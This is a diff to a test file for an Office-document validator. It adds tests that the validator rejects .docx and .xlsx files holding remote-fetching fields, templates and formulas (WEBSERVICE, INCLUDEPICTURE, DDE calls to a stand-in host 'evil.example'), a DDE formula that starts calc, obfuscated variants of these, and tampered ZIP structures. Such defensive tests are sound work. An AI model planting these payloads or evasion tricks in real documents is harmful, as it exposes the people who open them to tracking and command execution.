@@ -33,6 +33,14 @@ const book = (parts: Record<string, string> = {}) =>
       }).map(([name, part]) => [name, strToU8(part)]),
     ),
   );
+/** A Word file whose first part has another name or length in the directory than it really has. */
+function renamed(what: 'name' | 'bytes'): Uint8Array {
+  const file = Buffer.from(word());
+  const entry = file.indexOf(Buffer.from('PK\u0001\u0002'));
+  if (what === 'name') file.write('x', file.indexOf(Buffer.from('PK\u0003\u0004')) + 31);
+  else file.writeUInt32LE(20, entry + 24);
+  return file;
+}
 const related = (list: string) => ({ 'word/_rels/document.xml.rels': relations(list) });
 const link = (target: string, type = 'hyperlink') =>
   related(
@@ -132,11 +140,58 @@ describe('an Office file', () => {
     expect(problemOf(file)).toMatch(/refers to other files or programs/);
   });
 
-  it('is refused with a formula that fetches something', () => {
-    const sheet = {
-      'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>',
-    };
+  const code = (...parts: string[]) =>
+    text(
+      `<w:fldChar w:fldCharType="begin"/>${parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`,
+    );
+  const page = code('PAGE')['word/document.xml'];
+  const template = (attributes: string) =>
+    related(`<Relationship Id="a" Type="${relation}/attachedTemplate" ${attributes}/>`);
+  it.each([
+    [
+      'a field that fetches a picture, in pieces',
+      code('INCLUDE', 'PICTURE "https://evil.example"'),
+    ],
+    ['one in entities', code('IN&#67;LUDETEXT "https://evil.example"')],
+    ['one in a marked section', code('<![CDATA[DATABASE \\d "evil"]]>')],
+    ['one behind another field', text(page + code('DD', 'EAUTO evil')['word/document.xml'])],
+    ['a simple field by another prefix', text('<x:fldSimple x:instr="DDE evil"/>')],
+    ['a document that is referred to', code('RD "https://evil.example"')],
+    ['a link to a share in a field', code('HYPERLINK "\\\\evil\\a"')],
+    [
+      'a template whose mode has blanks',
+      template('Target="https://evil.example" TargetMode=" External"'),
+    ],
+    ['a template without a mode', template('Target="https://evil.example"')],
+    ['a template on a share without a mode', template('Target="\\\\evil\\a"')],
+    ['a picture by its address', text('<v:imagedata o:href="https://evil.example" r:href="a"/>')],
+    ['a picture by a link', text('<a:blip r:link="a"/>')],
+    ['a drawing with a script', { 'word/media/a.svg': '<svg><script>evil()</script></svg>' }],
+    ['a program by an action in entities', text('<a:hlinkClick action="ppaction&#58;//program"/>')],
+  ])('is refused with %s', (_, parts) => {
+    expect(problemOf(word(parts))).toMatch(/refers to other files or programs/);
+  });
+
+  it.each([
+    '<f>_xlfn.WEBSERVICE("https://evil.example")</f>',
+    '<x:f a=">">WEBSERVICE("https://evil.example")</x:f>',
+    '<f>WEB&#83;ERVICE("https://evil.example")</f>',
+    '<f>WEB<!-- -->SERVICE("https://evil.example")</f>',
+    '<f>WEB<?a ?>SERVICE("https://evil.example")</f>',
+    '<f><![CDATA[WEBSERVICE("https://evil.example")]]></f>',
+    '<definedName name="a">IMAGE("https://evil.example")</definedName>',
+    '<dataValidation><formula1>WEBSERVICE("https://evil.example")</formula1></dataValidation>',
+    "<f>cmd|'/c calc'!A0</f>",
+  ])('is refused with a formula that fetches or starts something: %s', (formula) => {
+    const sheet = { 'xl/worksheets/sheet1.xml': `<worksheet>${formula}</worksheet>` };
     expect(problemOf(book(sheet), 'xlsx')).toMatch(/refers to other files or programs/);
+  });
+
+  it('is taken with words that look like such fields and formulas', () => {
+    const said = '<w:t>Call (us), or see IMAGE (2) | DDE!</w:t>';
+    expect(problemOf(word(text(said + page)))).toBeUndefined();
+    const sheet = { 'xl/worksheets/sheet1.xml': '<f>"CALL(" &amp; A1 &amp; "a|b!"</f>' };
+    expect(problemOf(book(sheet), 'xlsx')).toBeUndefined();
   });
 
   it.each([
@@ -155,6 +210,10 @@ describe('an Office file', () => {
     ],
     ['with a name that leads elsewhere', word({ '../a.xml': '<a/>' }), 'docx'],
     ['with the same name twice', word({ 'Word/document.xml': '<a/>' }), 'docx'],
+    ['in another encoding', word({ 'word/a.xml': '<?xml encoding = "utf-7"?>' }), 'docx'],
+    ['with a part that is longer than it says', renamed('bytes'), 'docx'],
+    ['with a part of two names', renamed('name'), 'docx'],
+    ['with something behind its end', Buffer.concat([word(), Buffer.from('evil')]), 'docx'],
     ['that is none at all', Buffer.from('PK\u0003\u0004'), 'docx'],
   ] as const)('is refused as damaged: one %s', (_, file, type) => {
     expect(problemOf(file, type)).toMatch(/damaged, protected by a password, or not what/);
